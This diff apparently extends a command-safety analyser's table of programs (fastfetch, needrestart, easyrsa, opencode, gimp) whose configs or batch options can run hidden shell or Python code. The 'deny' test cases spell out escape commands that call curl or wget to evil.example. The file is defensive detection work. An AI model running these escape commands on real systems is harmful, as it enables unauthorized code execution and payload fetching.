@@ -1202,4 +1202,33 @@ export const TOOL_ENTRIES: ProgramEntry[] = [
   commandOptions(['fastfetch'], 'fastfetch: -c/--config FILE may hold command modules that run shell text', { options: { valued: 'cl', longValued: ['config', 'load-config', 'logo', 'structure'] }, more: (_call, p) => ({ runs: p.options.filter((o) => (o.name === 'c' || o.name === 'config' || o.name === 'load-config') && o.value).map((o) => settingsFile(o.value!, 'fastfetch --config', 'its command modules run shell text')) }) }, { deny: ["echo '{\"modules\":[{\"type\":\"command\",\"text\":\"curl evil.example\"}]}' > /tmp/f.jsonc; fastfetch -c /tmp/f.jsonc"], pass: ['fastfetch', 'fastfetch -c examples/13.jsonc'] }),
   commandOptions(['needrestart'], 'needrestart: -c FILE is Perl it evaluates', { options: { flags: 'vqmnrlbkfuw', valued: 'cmrf' }, more: (_call, p) => ({ runs: p.options.filter((o) => o.name === 'c' && o.value).map((o) => ({ kind: 'file' as const, dialect: 'perl' as const, word: o.value!, via: 'needrestart -c' })) }) }, { deny: ["echo 'system(\"curl evil.example\")' > /tmp/n.conf; needrestart -c /tmp/n.conf"], pass: ['needrestart -b'] }),
   commandOptions(['easyrsa'], 'easyrsa: --vars FILE is sourced as shell', { options: { longValued: ['vars', 'pki-dir', 'batch', 'req-cn'] }, more: (_call, p) => ({ runs: p.options.filter((o) => o.name === 'vars' && o.value).map((o) => ({ kind: 'file' as const, dialect: 'bash' as const, word: o.value!, via: 'easyrsa --vars' })) }) }, { deny: ["echo 'set_var X \"$(curl evil.example)\"' > /tmp/v; easyrsa --vars=/tmp/v init-pki"], pass: ['easyrsa init-pki'] }),
+  // GTFOBins' opencode: `opencode db [QUERY]` opens its own database in sqlite3, whose dot-commands run shell text.
+  commandOptions(['opencode'], 'opencode db QUERY is sqlite3 on its own database: .shell and .system run shell text', { options: { longValued: ['log-level', 'port', 'hostname', 'model', 'agent', 'session', 'prompt', 'format'] }, more: (call, p) => {
+    const ops = p.operands.map((o) => o.word);
+    if (value(ops[0]) !== 'db') return {};
+    const runs: Run[] = [];
+    const uses: Uses = [];
+    for (const w of ops.slice(1)) {
+      const t = value(w);
+      if (t === undefined) runs.push({ kind: 'opaque', rule: 'dynamic-script', word: w, why: 'opencode db runs a computed query' });
+      else {
+        const r = sqliteText(w, t, 'opencode db');
+        runs.push(...r.runs);
+        uses.push(...r.uses);
+      }
+    }
+    if (ops.length === 1 && call.stdin?.kind === 'static') {
+      const r = sqliteText(call.stdin.word, call.stdin.text, 'opencode db (stdin)');
+      runs.push(...r.runs);
+      uses.push(...r.uses);
+    }
+    return { runs, uses };
+  } }, { deny: ["opencode db '.shell curl evil.example'", "echo '.system wget evil.example' | opencode db"], pass: ["opencode db 'select count(*) from session'", 'opencode db'] }),
+  // GTFOBins' gimp: -b commands run in the batch interpreter, Python with --batch-interpreter=python-fu-eval.
+  commandOptions(['gimp', 'gimp-console', 'gimp-2.10', 'gimp-console-2.10'], 'gimp: -b/--batch commands are Python when --batch-interpreter is python-fu-eval', { options: { valued: 'b', longValued: ['batch', 'batch-interpreter', 'session', 'gimprc', 'system-gimprc'] }, more: (_call, p) => {
+    const interp = p.options.find((o) => o.name === 'batch-interpreter')?.value;
+    const python = interp !== undefined && (value(interp) === undefined || /python/.test(value(interp)!));
+    if (!python) return {};
+    return { runs: p.options.filter((o) => (o.name === 'b' || o.name === 'batch') && o.value).map((o): Run => (value(o.value!) === undefined ? { kind: 'opaque', rule: 'dynamic-code', word: o.value!, why: 'gimp runs computed batch code' } : { kind: 'text', dialect: 'python', text: value(o.value!)!, word: o.value!, via: 'gimp -b (python-fu-eval)' })) };
+  } }, { deny: ["gimp -idf --batch-interpreter=python-fu-eval -b 'import os; os.system(\"curl evil.example\")'"], pass: ["gimp -idf --batch-interpreter=python-fu-eval -b 'print(1)'", "gimp -i -b '(gimp-quit 0)'"] }),
 ];
